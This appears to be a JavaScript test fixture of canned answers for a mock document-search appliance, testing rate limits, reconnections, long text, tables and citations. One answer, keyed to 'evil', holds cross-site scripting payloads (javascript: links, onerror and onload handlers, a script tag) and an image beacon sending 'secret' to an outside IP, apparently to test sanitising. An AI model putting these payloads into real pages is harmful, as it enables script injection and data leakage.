// What the mock appliance answers, chosen by a word of the question.

const HANDBOOK = {
  document_id: "doc_handbook",
  document_name: "Staff handbook 2026.pdf",
  source_id: "src_handbook",
  page: 12,
  heading: "Annual leave",
};
const LEAVE = {
  ...HANDBOOK,
  number: 1,
  passage_id: "psg_1",
  quote: "Full-time staff are entitled to 28 days of paid leave a year, bank holidays included.",
  text: "3.1 Annual leave\n\nFull-time staff are entitled to 28 days of paid\nleave a year, bank holidays included. Part-time staff receive the same share of it as of the working week.\n\nLeave is requested at least two weeks ahead. Up to five days that were not taken move into the next year and must be used by the end of March.",
  score: 0.83,
};
const CARRY = {
  ...HANDBOOK,
  number: 2,
  passage_id: "psg_2",
  page: 13,
  heading: "Carrying days over",
  quote:
    "Up to five days that were not taken move into the next year and must be used by the end of March.",
  text: LEAVE.text,
  score: 0.71,
};
const RATES = {
  ...HANDBOOK,
  number: 3,
  document_id: "doc_rates",
  document_name: "Travel rates and allowances for journeys within the county (2026 revision).xlsx",
  page: null,
  heading: null,
  sheet: "Mileage",
  cells: "A2:C6",
  quote: "Car, first 10,000 miles: 45p",
  text: "Vehicle | Rate | From\nCar, first 10,000 miles: 45p\nCar, further miles: 25p\nBicycle: 20p",
};

const long = () => {
  const section = (n) =>
    `## Part ${n}\n\nEvery **office** keeps its keys in the safe \`S-${n}\`, see [the plan](https://example.org/plan/${n}) [1].\n\n- First, sign the book.\n- Then take *one* key.\n  - Never two.\n\n| Door | Key | Floor |\n|---|---|---|\n| North | N${n} | ${n} |\n| South | S${n} | ${n} |\n\n`;
  let text = "";
  for (let n = 1; text.length < 20_000; n += 1) text += section(n);
  return text;
};

const XSS = [
  "[click](javascript:alert(1)) <img src=x onerror=alert(1)> <script>window.hacked=1</script>",
  "![beacon](http://203.0.113.9/b.png?d=secret) ![b](data:image/svg+xml,<svg onload=alert(1)>)",
  "<iframe src=javascript:alert(1)></iframe> <a href=javascript:window.hacked=1>x</a>",
  "[fine](https://example.org/page) and [1].",
].join("\n\n");

/** Each answer: words that call for it, its text, its sources and whatever is special about it. */
export const ANSWERS = [
  { ask: /limit/, status: 429, code: "rate_limited", retryAfter: 20 },
  { ask: /busy/, status: 503, code: "busy", retryAfter: 3 },
  { ask: /expired/, status: 401, code: "invalid_token", once: true, text: "A new conversation." },
  // Twice, because a browser sends again by itself what it sent on a line it had kept open.
  { ask: /offline/, drop: 2, once: true, text: "This time it arrived." },
  { ask: /crash/, text: "The answer begins, and then the", error: "engine_failed" },
  { ask: /moon/, text: "I don't know.", mode: "refuse", reason: "no_answer", sources: [LEAVE] },
  {
    ask: /unsure/,
    text: "Staff get 28 days of paid leave a year [1]. Most of them take it in August [?].",
    cites: [LEAVE],
  },
  { ask: /queue/, queue: 3, text: "Thank you for waiting. Leave is 28 days [1].", cites: [LEAVE] },
  {
    ask: /break/,
    breakAt: [9, 17],
    text: "This answer survives two broken connections, and not a word of it is lost or said twice [1].",
    cites: [LEAVE],
  },
  { ask: /bytes/, bytes: true, text: "Zwölf Brüder fuhren früh: 雨が降る, нет, 👍 and done." },
  {
    ask: /slow/,
    pace: 90,
    text: `${"Slowly, word by word. ".repeat(12)}Done [1].`,
    cites: [LEAVE],
  },
  { ask: /long/, chunk: 4, pace: 0, text: long(), cites: [LEAVE] },
  { ask: /evil/, text: XSS, cites: [LEAVE] },
  {
    ask: /table|mileage/,
    text: "The rates per mile are these [3]:\n\n| Vehicle | First 10,000 | Beyond | Note |\n|---|---|---|---|\n| Car | 45p | 25p | private cars only |\n| Motorcycle | 24p | 24p | |\n| Bicycle | 20p | 20p | no receipt needed |\n\nClaims go in **by the fifth** of the month.",
    cites: [RATES],
  },
  {
    ask: /code/,
    text: "Run this on the terminal:\n\n```sh\nrsync -av /srv/forms/ backup:/forms/ --delete\necho done\n```\n\nThen check `backup.log`.",
  },
  {
    ask: /list/,
    text: "### Before your leave\n\n1. Agree the dates with your team.\n2. Fill in form **HR-4**:\n   - first and last day\n   - who covers for you\n3. Send it *two weeks* ahead [1].\n\n> Leave is granted when the form comes back signed.\n\nSee https://example.org/leave.",
    cites: [LEAVE],
  },
  {
    ask: /./,
    text: "Full-time staff have **28 days** of paid leave a year, bank holidays included [1]. Part-time staff get the same share.\n\nUp to five unused days move into the next year; take them by the end of March [2].",
    cites: [LEAVE, CARRY],
  },
];
